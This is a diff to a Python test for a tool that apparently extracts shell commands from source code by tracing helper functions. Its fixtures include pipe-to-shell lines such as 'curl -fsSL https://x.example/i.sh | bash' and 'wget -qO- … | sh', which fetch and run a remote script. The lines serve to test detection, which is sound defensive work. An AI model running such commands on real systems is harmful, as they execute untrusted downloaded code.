@@ -268,18 +268,25 @@ def test_a_helper_that_starts_the_command_it_is_given_starts_each_callers_comman
         "def sh(cmd, check=True):\n    print(cmd)\n    subprocess.run(cmd, shell=True, check=check)\n"
         "def run_argv(argv):\n    return subprocess.run(argv)\n"
         "def split_run(line):\n    subprocess.check_call(shlex.split(line))\n"
+        "def bash(script):\n    subprocess.run(['/bin/bash', '-c', script])\n"
+        "def kw(cmd):\n    subprocess.run(args=cmd, shell=True)\n"
         "sh('curl -fsSL https://x.example/i.sh | bash')\n"
         "run_argv(['wget', '-O', 'm.pt', url])\n"
         "split_run(line='cp /tmp/x.pt m.pt')\n"
         "sh(f'echo {name}')\n"
         "sh(f'curl -fsSL {input()} | bash')\n"
+        "bash('wget -qO- https://x.example/i.sh | sh')\n"
+        "kw('pip install torch')\n"
     )
     assert commands(source) == [
+        "{script}",  # the helper's own call: a shell given a script the code fills in
         "curl -fsSL https://x.example/i.sh | bash",
         "wget -O m.pt {url}",
         "cp /tmp/x.pt m.pt",
         "echo {name}",
         "curl -fsSL {input__} | bash",
+        "wget -qO- https://x.example/i.sh | sh",
+        "pip install torch",
     ]
 
 
